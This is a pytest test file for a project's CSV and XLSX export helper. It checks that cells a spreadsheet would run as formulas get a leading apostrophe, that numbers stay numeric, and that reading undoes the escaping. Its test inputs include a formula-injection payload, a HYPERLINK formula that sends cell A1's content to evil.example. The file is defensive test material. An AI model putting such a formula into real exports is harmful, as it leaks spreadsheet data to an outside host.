"""The one CSV writer: formula text neutralised (OWASP), numbers left numbers, and reading undoes it."""

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

import hamdeli
from hamdeli.core import spreadsheet

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1)", "+1+1", "-2+3", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert spreadsheet.cell(text) == "'" + text
    assert spreadsheet.uncell(spreadsheet.cell(text)) == text


@pytest.mark.parametrize("value", [-5, 0, 12, Decimal("-2.50"), -0.5, None, "", "Isfahan", "a=b", "#output+num",
                                   "'quoted", "۱۲"])
def test_numbers_and_harmless_text_are_written_as_they_are(value):
    assert spreadsheet.cell(value) == value


def test_rows_through_both_writers():
    out = io.StringIO()
    writer = spreadsheet.Writer(out, lineterminator="\n")
    writer.writerow(["#item+name", "#output+num"])  # an HXL hashtag row stays as it is
    writer.writerows([["=cmd", -5], ["@SUM(1)", Decimal("-2.50")]])
    assert out.getvalue() == "#item+name,#output+num\n'=cmd,-5\n'@SUM(1),-2.50\n"
    out = io.StringIO()
    writer = spreadsheet.DictWriter(out, fieldnames=["name", "quantity"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"name": "+1", "quantity": -5})
    writer.writerows([{"name": "-x", "quantity": 3}])  # writerows too (csv.DictWriter's bypasses writerow)
    assert out.getvalue() == "name,quantity\n'+1,-5\n'-x,3\n"
    assert list(spreadsheet.DictReader(io.StringIO(out.getvalue()))) == [
        {"name": "+1", "quantity": "-5"}, {"name": "-x", "quantity": "3"}]
    assert spreadsheet.read(out.getvalue())[1:] == [["+1", "-5"], ["-x", "3"]]


@given(st.text())
def test_reading_gives_back_exactly_what_was_written(text):
    out = io.StringIO()
    spreadsheet.Writer(out).writerow([text])
    [[cell]] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert not cell.startswith(spreadsheet.FORMULA_START)
    assert spreadsheet.read(out.getvalue()) == [[text]]


def test_xlsx_keeps_text_as_text_and_numbers_as_numbers():
    content = spreadsheet.xlsx([["name", "quantity"], ["=1+1", -5], ["@SUM(1)", Decimal("2.5")], ["a\x0bb", None]])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert cells[0] == [("=1+1", "s"), (-5, "n")]
    assert cells[1] == [("@SUM(1)", "s"), (2.5, "n")]
    assert cells[2][0] == ("ab", "s")  # a control character XLSX cannot hold is left out, not a 500


def test_every_csv_and_xlsx_export_is_written_by_core_spreadsheet():
    """No module writes CSV or XLSX on its own (it would forget the formula cells)."""
    root = Path(hamdeli.__file__).parent
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(")
    own = [str(path.relative_to(root)) for path in root.rglob("*.py")
           if path.name != "spreadsheet.py" and pattern.search(path.read_text(encoding="utf-8"))]
    assert not own, f"write CSV/XLSX through hamdeli.core.spreadsheet instead: {own}"
